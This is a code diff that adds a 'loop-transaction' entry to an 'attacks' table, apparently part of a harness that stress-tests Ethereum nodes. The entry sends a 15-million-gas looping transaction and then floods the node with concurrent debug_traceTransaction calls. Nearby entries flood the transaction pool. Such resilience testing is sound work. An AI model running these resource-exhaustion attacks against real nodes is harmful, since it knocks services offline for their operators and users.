@@ -383,6 +383,22 @@ export const attacks = {
         ask('debug_traceCall', [{ data: LOOP, gas: '0x2faf080' }, 'latest', { tracer: 'callTracer' }]),
       ),
   },
+  'loop-transaction': {
+    point: 'C.1',
+    help: 'debug_traceTransaction of one that used up 15 M gas, four at once',
+    async run(target) {
+      const raw = await signer(target, 1)({ nonce: await nonceOf(target, 1), gas: 15_000_000n, data: LOOP })
+      const hash = (await post(target, ask('eth_sendRawTransaction', [raw])))?.result
+      while (
+        !(await post(target, ask('eth_getTransactionReceipt', [hash])))?.result &&
+        Date.now() < target.until
+      )
+        await sleep(100)
+      return lanes(target, 4, (_, i) =>
+        ask('debug_traceTransaction', i % 2 ? [hash, {}] : [hash, { tracer: 'callTracer' }]),
+      )
+    },
+  },
   'pool-content': {
     point: 'C.10',
     help: '128 MB that can never be included in the pool, then txpool_content, sixteen at once',
